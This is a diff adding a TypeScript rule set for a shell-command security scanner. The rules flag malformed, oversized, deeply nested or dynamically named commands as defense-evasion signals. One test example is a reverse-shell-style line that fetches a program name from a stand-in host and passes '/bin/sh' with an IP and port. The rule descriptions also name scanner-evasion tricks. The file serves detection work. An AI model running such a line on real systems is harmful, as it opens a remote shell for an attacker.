@@ -1,0 +1,38 @@
+import { ruleAnalyzer, type Rule } from '../rule.js';
+import { shellQuote } from '../toolcall.js';
+
+const nested = (layers: number): string => {
+  let s = 'ls';
+  for (let i = 0; i < layers; i++) s = `bash -c ${shellQuote(s)}`;
+  return s;
+};
+
+/** Signals about the line itself: what could not be parsed, decoded or bounded is worth a look. */
+export const PARSER_RULES: readonly Rule[] = [
+  {
+    id: 'PX-PARSE-001', name: 'unparseable-command', score: 20, tactic: 'defense_evasion', technique: 'T1027',
+    message: 'The command line is not valid shell; analyzed on a best-effort token stream', why: 'Malformed input can be an attempt to confuse a parser-based guard.',
+    check: (i) => (i.view && i.view.parseErrors > 0 && i.view.commands.some((c) => c.origin === 'fallback') ? `${i.view.parseErrors} syntax error(s)` : undefined),
+    examples: { fire: ['echo "unterminated'], quiet: ['echo "terminated"'] },
+  },
+  {
+    id: 'PX-PARSE-002', name: 'input-over-size-bound', score: 35, tactic: 'defense_evasion', technique: 'T1027.001',
+    message: 'The command is longer than the analysis bound; only its beginning was analyzed', why: 'Padding a command past a scanner\'s limit is a known way to hide its tail.',
+    check: (i) => (i.view?.truncated ? `${i.view.original.length} characters` : undefined),
+    examples: { fire: ['echo ' + 'a'.repeat(140 * 1024)], quiet: ['echo ' + 'a'.repeat(1000)] },
+  },
+  {
+    id: 'PX-PARSE-003', name: 'nesting-too-deep', score: 50, tactic: 'defense_evasion', technique: 'T1027',
+    message: 'Nested scripts go deeper than the analysis bound', why: 'Layer upon layer of eval and sh -c has no purpose but to hide what finally runs.',
+    check: (i) => (i.view?.depthExceeded ? 'more than 8 layers of nested scripts' : undefined),
+    examples: { fire: [nested(10)], quiet: [nested(3)] },
+  },
+  {
+    id: 'PX-PARSE-004', name: 'dynamic-command-name', score: 30, tactic: 'defense_evasion', technique: 'T1027.010',
+    message: 'The command name is computed at run time and could not be resolved', why: 'Building the name of the program to run from variables or substitutions hides it from review.',
+    test: (c) => (c.dynamic[0] && !/^\$\{?(EDITOR|VISUAL|PAGER|SHELL|CC|CXX|PYTHON|NODE|NPM|MAKE|BROWSER|GIT|JAVA|JAVA_HOME|GOPATH|HOME|PWD|CARGO|DOCKER|KUBECTL)\b/.test(c.argv[0] ?? '') && !/^"?\$\{?[0-9@*]/.test(c.argv[0] ?? '') && !/^\$\{?[a-z_]+\}?$/.test(c.argv[0] ?? '') ? c.argv[0] : undefined),
+    examples: { fire: ['$(curl -s http://x.example/n) -e /bin/sh 1.2.3.4 4444', '`cat /tmp/n` --x'], quiet: ['$EDITOR README.md', '"$@"', 'for f in *; do $cmd "$f"; done'] },
+  },
+];
+
+export const parser = ruleAnalyzer('parser', PARSER_RULES);
